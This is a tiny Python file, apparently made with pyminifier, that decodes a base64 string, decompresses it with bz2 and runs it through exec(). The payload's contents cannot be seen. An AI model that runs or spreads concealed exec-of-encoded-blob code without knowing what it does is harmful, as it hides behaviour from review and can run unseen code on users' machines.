import bz2, base64
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWdueLEcAAAlRgAAQUGMrY99gIAAxQaNGgyA0KDQNAwgAhLehVdKsVjPl9YAqYR5ou9CfBb7q7HxkwPi7kinChIbc8WI4')))
# Created by pyminifier (https://github.com/liftoff/pyminifier)
